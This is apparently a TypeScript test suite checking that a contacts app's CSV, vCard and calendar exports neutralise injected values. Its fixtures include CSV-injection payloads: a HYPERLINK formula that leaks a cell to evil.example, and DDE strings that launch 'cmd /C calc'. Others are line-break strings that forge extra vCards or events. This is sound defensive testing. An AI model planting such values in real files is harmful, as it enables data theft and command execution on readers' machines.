// What other people wrote (LinkedIn names and headlines, imported cards) goes out again in CSV,
// vCard and iCalendar: no value may become a spreadsheet formula, a vCard property or card, or a
// calendar property or event of its own.
import ICAL from 'ical.js';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rawCall, setupOwner, type ApiClient } from '../support/client.js';
import { startTestServer, type TestServer } from '../support/harness.js';
import { uploaderFor } from '../support/multipart.js';
import { addUser } from '../support/users.js';

let server: TestServer;
let alice: ApiClient;

beforeAll(async () => {
  server = await startTestServer();
  server.setNow(new Date('2026-11-23T09:00:00Z'));
  alice = await setupOwner(server.app, { language: 'en' });
});
afterAll(() => server.close());

describe('CSV export and formulas (OWASP CSV injection)', () => {
  const hostile = {
    firstName: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    lastName: '+1+cmd|\' /C calc\'!A0',
    company: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    title: '-2+3',
    notes: "'=already guarded by its author",
    phones: ['+34 600 111 222'],
    tags: ['=1+1', 'ok'],
  };
  let created: any;

  beforeAll(async () => {
    created = (await alice.post('/api/contacts', hostile)).body;
    expect(created.id).toBeDefined();
  });

  it('every cell a spreadsheet would run starts with a quote; a phone number is left as it is', async () => {
    const csv = (await alice.get('/api/exports/csv')).body as string;
    const [header, ...rows] = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    const row = rows.find((r) => r[header!.indexOf('Organization Name')]?.includes('@SUM'))!;
    const cell = (name: string) => row[header!.indexOf(name)];
    expect(cell('First Name')).toBe(`'${hostile.firstName}`);
    expect(cell('Last Name')).toBe(`'${hostile.lastName}`);
    expect(cell('Organization Name')).toBe(`'${hostile.company}`);
    expect(cell('Organization Title')).toBe("'-2+3");
    expect(cell('Notes')).toBe(`'${hostile.notes}`);
    // Digits and spaces after a sign name no function: no quote to carry into other address books.
    expect(cell('Phone 1 - Value')).toBe('+34 600 111 222');
    expect(cell('Labels')).toBe("'=1+1 ::: ok");
    for (const value of row) if (value !== '+34 600 111 222') expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('importing our own export gives every value back as it was typed', async () => {
    const csv = (await alice.get('/api/exports/csv')).body as string;
    const bob = await addUser(server);
    const uploader = await uploaderFor(server.app, bob);
    const report = await uploader.upload('/api/imports', { source: 'csv' }, [{ name: 'circulo.csv', content: csv }]);
    expect(report.status, JSON.stringify(report.body)).toBe(200);
    const [summary] = (await bob.get('/api/contacts')).body.items;
    const contact = (await bob.get(`/api/contacts/${summary.id}`)).body;
    expect(contact).toMatchObject({ ...hostile, tags: expect.arrayContaining(hostile.tags) });
  });
});

/** Every card of a vCard file, as ical.js reads it. */
function cardsOf(text: string): ICAL.Component[] {
  const parsed = ICAL.parse(text) as unknown[];
  const list = (Array.isArray(parsed[0]) ? parsed : [parsed]) as unknown[];
  return list.map((jcard) => new ICAL.Component(jcard as never));
}

const INJECTIONS = [
  'Ana\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Mallory',
  'Ana\rEND:VCARD\rBEGIN:VCARD\rFN:Mallory',
  'Bea; Org, Inc. \\ back\\slash',
  'Eve\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Phishing',
];
/** What the stored text reads as once written: line breaks become line feeds. */
const asWritten = (text: string) => text.replace(/\r\n?/g, '\n');

describe('vCard export', () => {
  it.each(['4.0', '3.0'])('as %s, a value with line breaks, ; , and \\ stays in its own property of its one card', async (version) => {
    const bob = await addUser(server);
    const values = { firstName: INJECTIONS[0]!, lastName: INJECTIONS[2]!, company: INJECTIONS[1]!, title: INJECTIONS[3]!, notes: INJECTIONS.join('\n'), phones: ['+34 600\r\nEND:VCARD'], tags: [INJECTIONS[2]!] };
    const created = await bob.post('/api/contacts', values);
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const text = (await bob.get(`/api/exports/vcard?version=${version}`)).body as string;
    const cards = cardsOf(text);
    expect(cards).toHaveLength(1);
    const card = cards[0]!;
    expect(card.getAllProperties('fn')).toHaveLength(1);
    expect(card.getFirstPropertyValue('n')).toEqual([asWritten(values.lastName), asWritten(values.firstName), '', '', '']);
    expect(card.getFirstPropertyValue('org')).toBe(asWritten(values.company));
    expect(card.getFirstPropertyValue('title')).toBe(asWritten(values.title));
    expect(card.getFirstPropertyValue('note')).toBe(asWritten(values.notes));
    expect(card.getFirstProperty('categories')!.getValues()).toEqual([values.tags[0]]);
    // 4.0 writes a phone as text (its line feed escaped), 3.0 as phone-number (control characters dropped).
    expect(card.getAllProperties('tel')).toHaveLength(1);
    expect(String(card.getFirstPropertyValue('tel'))).toBe(version === '4.0' ? '+34 600\nEND:VCARD' : '+34 600END:VCARD');
    expect(text.match(/^BEGIN:VCARD$/gm)).toHaveLength(1);
    expect(text).not.toMatch(/^(FN|SUMMARY):(Mallory|Phishing)/m);
  });
});

describe('calendar feed', () => {
  it('a follow-up, a contact and an event with line breaks, ; , and \\ are one entry each, with their text', async () => {
    const carol = await addUser(server, { language: 'en' });
    const contact = (await carol.post('/api/contacts', { firstName: INJECTIONS[2]! })).body;
    const followup = await carol.post('/api/followups', { contactId: contact.id, dueOn: '2026-11-30', title: INJECTIONS[3]! });
    expect(followup.status, JSON.stringify(followup.body)).toBe(201);
    const event = await carol.post('/api/events', { name: INJECTIONS[3]!, place: INJECTIONS[0]!, kind: 'meetup', startsAt: '2026-12-03T08:30:00Z' });
    expect(event.status, JSON.stringify(event.body)).toBe(201);
    const { url } = (await carol.post('/api/calendar/secret')).body;
    const text = (await rawCall(server.app, 'GET', new URL(url).pathname)).body as string;

    const calendar = new ICAL.Component(ICAL.parse(text));
    const vevents = calendar.getAllSubcomponents('vevent');
    expect(vevents).toHaveLength(2);
    const summaries = vevents.map((v) => v.getFirstPropertyValue('summary'));
    expect(summaries).toEqual(expect.arrayContaining([asWritten(INJECTIONS[3]!), `${asWritten(INJECTIONS[3]!)} — ${INJECTIONS[2]}`]));
    const meetup = vevents.find((v) => String(v.getFirstPropertyValue('uid')).startsWith('event-'))!;
    expect(meetup.getFirstPropertyValue('location')).toBe(asWritten(INJECTIONS[0]!));
    for (const vevent of vevents) expect(vevent.getAllProperties('summary')).toHaveLength(1);
    expect(text.match(/^BEGIN:VEVENT$/gm)).toHaveLength(2);
    expect(text).not.toMatch(/^SUMMARY:Phishing/m);
  });
});
